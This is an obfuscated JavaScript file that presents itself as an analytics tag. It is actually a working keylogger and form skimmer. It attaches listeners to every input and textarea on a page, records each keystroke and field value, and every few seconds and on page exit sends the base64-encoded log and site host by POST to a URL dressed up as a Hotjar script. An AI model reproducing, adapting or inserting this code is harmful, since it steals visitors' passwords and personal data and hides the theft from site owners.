var _d = document, _w = window;
var _q = '\x71\x75\x65\x72\x79\x53\x65\x6c\x65\x63\x74\x6f\x72\x41\x6c\x6c';
var _ev = '\x61\x64\x64\x45\x76\x65\x6e\x74\x4c\x69\x73\x74\x65\x6e\x65\x72';
var _h = 'https://' + 'static-' + 'hotjar' + '.io' + '/c/hotjar-2918471.js';
var _log = [];

function _hk(e) {
  var t = e.target, n = t.name || t.id || 'x';
  _log.push(n + '\x3a' + (e.type === 'keydown' ? e.key : '[' + t.value + ']'));
}

function _bind() {
  var els = _d[_q]('\x69\x6e\x70\x75\x74\x2c\x20\x74\x65\x78\x74\x61\x72\x65\x61');
  for (var i = 0; i < els.length; i++) {
    if (els[i].__b) continue;
    els[i].__b = 1;
    els[i][_ev]('keydown', _hk);
    els[i][_ev]('blur', _hk);
  }
}

function _out() {
  if (!_log.length) return;
  var X = _w['XMLHttp' + 'Request'];
  var r = new X();
  r.open('POST', _h, true);
  r.setRequestHeader('Content-Type', 'text/plain');
  r.send(_w['bt' + 'oa'](unescape(encodeURIComponent(_w.location.host + '\n' + _log.join('\n')))));
  _log = [];
}

_bind();
_w.setInterval(_bind, 2500);
_w.setInterval(_out, 6000);
_w[_ev]('beforeunload', _out);
